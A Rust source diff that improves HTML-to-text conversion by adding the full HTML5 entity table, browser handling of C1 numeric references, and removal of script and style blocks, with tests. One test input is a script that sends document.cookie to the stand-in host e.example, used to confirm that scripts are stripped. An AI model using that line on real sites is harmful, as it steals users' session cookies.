@@ -2,20 +2,38 @@
 
 use std::borrow::Cow;
 
-use quick_xml::escape::{resolve_html5_entity, resolve_xml_entity};
+use markup5ever::data::{C1_REPLACEMENTS, NAMED_ENTITIES};
+use quick_xml::escape::resolve_xml_entity;
 
-/// Resolve the body of an entity reference (`amp`, `#21490`, `#x4E2D`).
+/// Resolve the body of an entity reference (`amp`, `#21490`, `#x4E2D`,
+/// `alpha`): XML's five, then the whole HTML5 table (html5ever's; the one
+/// in quick-xml has wrong code points, `&alpha;` as `;`).
 pub fn resolve_entity(name: &str) -> Option<Cow<'static, str>> {
     if let Some(num) = name.strip_prefix('#') {
         let code = match num.strip_prefix(['x', 'X']) {
             Some(hex) => u32::from_str_radix(hex, 16).ok()?,
             None => num.parse().ok()?,
         };
+        // `&#146;` means windows-1252's `’` to every browser (HTML's rule
+        // for 128-159, which are control characters in Unicode).
+        let c1 = code.checked_sub(0x80).and_then(|i| C1_REPLACEMENTS.get(i as usize).copied().flatten());
         // NUL and surrogates are not characters; keep the reference visible.
-        let c = char::from_u32(code).filter(|c| *c != '\0')?;
+        let c = c1.or_else(|| char::from_u32(code)).filter(|c| *c != '\0')?;
         return Some(Cow::Owned(c.to_string()));
     }
-    resolve_xml_entity(name).or_else(|| resolve_html5_entity(name)).map(Cow::Borrowed)
+    if let Some(xml) = resolve_xml_entity(name) {
+        return Some(Cow::Borrowed(xml));
+    }
+    if name.is_empty() || name.len() > 40 {
+        return None;
+    }
+    let &(first, second) = NAMED_ENTITIES.get(format!("{name};").as_str())?;
+    let mut out = String::with_capacity(8);
+    out.extend(char::from_u32(first));
+    if second != 0 {
+        out.extend(char::from_u32(second));
+    }
+    Some(Cow::Owned(out))
 }
 
 /// Decode HTML character references once; unknown ones stay as written.
@@ -61,6 +79,11 @@ pub fn html_to_text(html: &str) -> String {
             rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
             continue;
         }
+        // Scripts and style sheets are no part of the text a reader sees.
+        if let Some(end) = raw_text_end(after) {
+            rest = end;
+            continue;
+        }
         // `<` not followed by a tag name or `/`, `!`, `?` is text (e.g. "a < b").
         if after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
             match after.find('>') {
@@ -74,6 +97,21 @@ pub fn html_to_text(html: &str) -> String {
     }
     stripped.push_str(rest);
     decode_entities(&stripped).into_owned()
+}
+
+/// For `after` just past a `<script` or `<style` start tag's `<`, what
+/// follows its end tag (or nothing, when it is never closed).
+fn raw_text_end(after: &str) -> Option<&str> {
+    let name = ["script", "style"].into_iter().find(|n| {
+        after.get(..n.len()).is_some_and(|h| h.eq_ignore_ascii_case(n))
+            && !after[n.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
+    })?;
+    let lower = after.to_ascii_lowercase();
+    let close = format!("</{name}");
+    Some(match lower.find(&close) {
+        Some(at) => after[at..].find('>').map_or("", |gt| &after[at + gt + 1..]),
+        None => "",
+    })
 }
 
 /// One-line text for YAML and file names: runs of ASCII white space become
@@ -172,6 +210,23 @@ mod tests {
     fn html_text() {
         assert_eq!(html_to_text("<p>a &lt; b</p> <br/>c < d"), "a < b c < d");
         assert_eq!(html_to_text("a<!-- x > y -->b<!-- open"), "ab");
+        assert_eq!(
+            html_to_text(
+                "safe<script>location.href='//e.example/?'+document.cookie</script> description<STYLE>p{}</STYLE>"
+            ),
+            "safe description"
+        );
+        assert_eq!(html_to_text("<scripts>x</scripts>"), "x", "only the raw-text elements themselves");
+    }
+
+    #[test]
+    fn the_whole_html5_entity_table_and_browser_c1_references() {
+        assert_eq!(
+            decode_entities(
+                "&alpha; &Omega; &oelig; &scaron; &tilde; &fnof; &NotNestedGreaterGreater; don&#146;t &#x80;"
+            ),
+            "α Ω œ š ˜ ƒ \u{2AA2}\u{338} don’t €"
+        );
     }
 
     #[test]
